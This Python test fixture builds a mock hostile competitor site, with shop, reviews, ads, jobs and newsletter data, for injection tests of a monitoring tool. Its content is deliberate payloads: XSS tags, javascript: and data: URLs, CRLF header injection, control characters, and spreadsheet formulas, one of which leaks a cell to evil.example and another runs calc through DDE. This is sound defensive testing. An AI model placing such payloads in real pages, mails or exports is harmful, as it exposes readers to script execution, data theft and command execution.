"""A competitor whose scraped text is an attack on whoever reads Dossier's output (tests/test_faults_injection.py):
markup and script in names, titles, reviews, ads, jobs and newsletters, `javascript:` and `data:` links, CR LF
for mail headers, spreadsheet formulas and control characters. Two nights: the second adds and changes things,
so that every kind of change carries a payload into the digest, the report and the exports."""
from __future__ import annotations

import html
import json

from crawlsites import Reply, page

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
JS_URL = "JavaScript:alert(3)"  # mixed case: a check for "javascript:" alone lets it by
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg=="
CRLF = "\r\nBcc: victim@example.org\r\nX-Injected: 1"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")'
FORMULAS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
CONTROL = "Rad\x1b[31m rot\x07\x08"  # an escape sequence, a bell, a backspace: text a terminal or XLSX chokes on
ATTACKS = (SCRIPT, IMG)

# (sku, name, price on night 1, on night 2 (None: not listed), link of the product card)
PRODUCTS = [
    ("X1", f"Wheel {SCRIPT}", "10.00", "12.00", "/shop/x1"),
    ("X2", f"Axle {IMG}", "20.00", "25.00", JS_URL),
    ("X3", HYPERLINK, "30.00", "33.00", DATA_URL),
    ("X4", FORMULAS[1], "40.00", "44.00", "/shop/x4"),
    ("X5", FORMULAS[2], "50.00", "55.00", "/shop/x5"),
    ("X6", FORMULAS[3], "60.00", "66.00", "/shop/x6"),
    ("X7", CONTROL, "70.00", "77.00", "/shop/x7"),
    ("X8", "<iframe src=javascript:alert(5)></iframe> Hub", None, "80.00", " javascript:alert(5)"),
    ("X9", '"><svg onload=alert(6)> Spoke', None, "90.00", DATA_URL),
]


def _text(value: str) -> str:
    """Scraped text as a page holds it: escaped, so the text read from the page is the payload itself."""
    return html.escape(value, quote=True)


def _json_ld(value: object) -> str:
    return ("<script type='application/ld+json'>" + json.dumps(value).replace("</", "<\\/") + "</script>")


def shop(night: int) -> Reply:
    cards = "".join(
        f"<div class='product' data-sku='{sku}'><a href='{_text(link)}'><h2 class='name'>{_text(name)}</h2></a>"
        f"<span class='price'>{price} EUR</span><span class='sku'>{sku}</span></div>"
        for sku, name, *prices, link in PRODUCTS if (price := prices[night - 1]) is not None)
    return page("Shop", body=cards)


def about(night: int) -> Reply:
    lines = ["<p>Family business since 1921.</p>"]
    if night == 2:  # a text change whose diff lines carry the payloads
        lines += [f"<p>{_text(SCRIPT)} now with {_text(IMG)}</p>", f"<p>{_text('Call us' + CRLF)}</p>",
                  f"<p><a href='{_text(JS_URL)}'>{_text(HYPERLINK)}</a></p>"]
    return page("About", body="".join(lines))


def reviews(night: int) -> Reply:
    items = [{"@type": "Review", "author": {"@type": "Person", "name": "Anna"}, "datePublished": "2026-01-05",
              "reviewRating": {"@type": "Rating", "ratingValue": 5}, "reviewBody": "Solid wheels."}]
    if night == 2:
        items.append({"@type": "Review", "author": {"@type": "Person", "name": IMG}, "datePublished": "2026-01-06",
                      "name": HYPERLINK, "reviewRating": {"@type": "Rating", "ratingValue": 1},
                      "reviewBody": f"{SCRIPT} Terrible.{CRLF}"})
    return Reply("<!doctype html><html><head><title>Reviews</title>" + _json_ld(
        {"@context": "https://schema.org", "@type": "Product", "name": "Wheel", "review": items}) +
        "</head><body><h1>Reviews</h1></body></html>")


def ads(night: int) -> Reply:
    items = [{"id": "A1", "page_name": "Evil", "ad_creative_link_titles": ["Spring sale"],
              "ad_creative_bodies": ["Wheels for less."], "ad_creative_link_urls": ["https://evil.example/sale"],
              "ad_delivery_start_time": "2026-01-01"}]
    if night == 2:
        items += [
            {"id": "A2", "page_name": "Evil", "ad_creative_link_titles": [f"{SCRIPT} Flash sale"],
             "ad_creative_bodies": [IMG], "ad_creative_link_urls": [JS_URL],
             "ad_snapshot_url": DATA_URL, "ad_delivery_start_time": "2026-01-06"},
            {"id": "A3", "page_name": "Evil", "ad_creative_link_titles": [HYPERLINK],
             "ad_creative_bodies": [f"Deal{CRLF}"], "ad_creative_link_urls": [DATA_URL],
             "ad_snapshot_url": JS_URL, "ad_delivery_start_time": "2026-01-06"}]
    return Reply(json.dumps({"data": items}), content_type="application/json")


def jobs(night: int) -> Reply:
    postings = [{"@context": "https://schema.org", "@type": "JobPosting", "title": "Mechanic",
                 "datePosted": "2026-01-01", "url": "/jobs/mechanic"}]
    if night == 2:
        postings += [{"@context": "https://schema.org", "@type": "JobPosting", "title": f"Engineer {SCRIPT}",
                      "datePosted": "2026-01-06", "url": JS_URL},
                     {"@context": "https://schema.org", "@type": "JobPosting", "title": f"{HYPERLINK}",
                      "datePosted": "2026-01-06", "url": DATA_URL}]
    return Reply("<!doctype html><html><head><title>Jobs</title>" + "".join(_json_ld(p) for p in postings) +
                 "</head><body><h1>Jobs</h1></body></html>")


def site(night: int) -> dict:
    links = ["/about.html", "/new.html"] if night == 2 else ["/about.html"]
    return {
        "/": page("Evil Wheels", *links),
        "/about.html": about(night),
        # a new page whose title is the payload (the title is escaped here: the browser would show it as text)
        "/new.html": Reply(f"<!doctype html><html><head><title>{_text(SCRIPT + ' ' + IMG)}</title></head><body>"
                           f"<h1>{_text(HYPERLINK)}</h1><p>New page.</p></body></html>"),
        "/shop/": shop(night),
        "/reviews.html": reviews(night),
        "/ads.json": ads(night),
        "/jobs.html": jobs(night),
        "/tab/": page("Tab Co", *(["/tab/news.html"] if night == 2 else [])),
        "/tab/news.html": page("News", body="<p>Quiet.</p>"),
    }


SENDER = "news@evil.example"


def newsletter_mbox(night: int) -> bytes:
    """An mbox of the competitor's newsletters; night 2 adds one whose subject is markup and, once its encoded
    words are decoded, holds CR LF and a header."""
    letters = [("<n1@evil.example>", "Mon, 05 Jan 2026 08:00:00 +0000", "January news", "Hello.")]
    if night == 2:
        letters.append(("<n2@evil.example>", "Tue, 06 Jan 2026 08:00:00 +0000",
                        "=?utf-8?q?=3Cscript=3Ealert(7)=3C/script=3E_Sale=0D=0ABcc:_victim@example.org?=",
                        f"Big sale: <a href=\"{JS_URL}\">here</a>"))
    out = []
    for message_id, date, subject, body in letters:
        out.append(f"From {SENDER} {date}\nFrom: Evil News <{SENDER}>\nTo: team@example.org\nSubject: {subject}\n"
                   f"Date: {date}\nMessage-ID: {message_id}\nMIME-Version: 1.0\n"
                   f"Content-Type: text/html; charset=utf-8\n\n<html><body><p>{body}</p></body></html>\n\n")
    return "".join(out).encode()
